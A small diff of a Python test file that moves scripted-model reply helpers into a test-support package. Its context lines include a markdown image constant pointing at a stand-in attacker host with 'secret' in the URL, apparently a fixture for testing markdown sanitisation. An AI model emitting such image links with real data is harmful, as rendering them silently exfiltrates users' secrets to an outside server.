@@ -16,8 +16,6 @@ from server.services.services import Services
 from agents.ask.answer import Answer
 from agents.change.reviewer import Verdict
 from agents.review.findings.finding import Finding
-from models.replies import Body, Events, Reply, Text
-from models.scripted import ScriptedServer
 from rooftree.text.safe_markdown import harmless
 from server.access.api_keys import KeyStore
 from server.access.request_guards import policy_for
@@ -27,6 +25,8 @@ from tests.agents.scenes import FOUND, SHOP
 from tests.server.changing import changing_config
 from tests.server.stand import client_of
 from tests.support import git_repository
+from tests.support.replies import Body, Events, Reply, Text
+from tests.support.scripted_model import ScriptedServer
 
 SAYS = "It takes the money [1]. "
 IMAGE = "![x](http://evil.test/p?q=secret)"
